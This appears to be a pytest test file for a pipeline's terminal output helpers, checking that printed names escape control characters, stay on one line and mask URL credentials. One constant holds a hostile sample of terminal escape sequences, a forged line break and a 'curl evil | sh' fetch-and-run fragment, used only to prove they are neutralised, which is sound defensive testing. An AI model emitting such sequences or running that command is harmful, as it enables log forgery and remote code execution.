"""What is printed: a line stays a line, the terminal is not written to by names, and no secret gets out."""

import io
import json
import os
import subprocess
import sys

import pytest

from ddpm_pipeline.telemetry.redaction import MASK
from ddpm_pipeline.telemetry.terminal import echo, echo_json, one_line

HOSTILE = "\x1b]0;owned\x07\x1b[2Jcat\r\nnext     curl evil | sh\u202e\udce9"


def test_a_name_cannot_write_to_the_terminal_or_forge_a_line(capsys: pytest.CaptureFixture[str]) -> None:
    echo(f"class    {HOSTILE}")
    assert capsys.readouterr().out == (
        "class    \\x1b]0;owned\\x07\\x1b[2Jcat\\r\\nnext     curl evil | sh\\u202e\\udce9\n"
    )


@pytest.mark.parametrize("text", ["katze", "日本語 ü ß", "", "a  b", "s3://ddpm/samples/digits"])
def test_ordinary_names_are_printed_as_they_are(text: str) -> None:
    assert one_line(text) == text


def test_every_character_outside_the_printable_ones_is_escaped() -> None:
    everything = "".join(map(chr, range(0x3000)))
    assert one_line(everything).isprintable()


def test_each_line_is_masked(capsys: pytest.CaptureFixture[str]) -> None:
    echo("ok       Ray  http://someone:correct-horse@10.0.0.1:8265", error=True)
    captured = capsys.readouterr()
    assert captured.out == ""
    assert captured.err == f"ok       Ray  http://{MASK}@10.0.0.1:8265\n"


def test_json_is_masked_and_keeps_control_characters_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    echo_json({"host": HOSTILE[:-1], "url": "https://u:correct-horse@h/"})
    text = capsys.readouterr().out
    assert "\x1b" not in text
    assert json.loads(text) == {"host": HOSTILE[:-1], "url": f"https://{MASK}@h/"}


@pytest.mark.parametrize("encoding", ["ascii", "latin-1"])
def test_a_narrow_terminal_shows_escapes_instead_of_a_traceback(encoding: str) -> None:
    program = (
        "from ddpm_pipeline.telemetry.logs import set_up_logging; set_up_logging(); print('loss → 日本')"
    )
    done = subprocess.run(
        [sys.executable, "-c", program],
        capture_output=True,
        env=os.environ | {"PYTHONIOENCODING": encoding, "PYTHONUTF8": "0"},
        check=False,
    )
    assert (done.returncode, done.stdout) == (0, b"loss \\u2192 \\u65e5\\u672c\n")


def test_a_stream_without_an_encoding_is_left_alone(monkeypatch: pytest.MonkeyPatch) -> None:
    from ddpm_pipeline.telemetry.logs import set_up_logging

    monkeypatch.setattr(sys, "stdout", stream := io.StringIO())
    set_up_logging()
    echo("x")
    assert stream.getvalue() == "x\n"
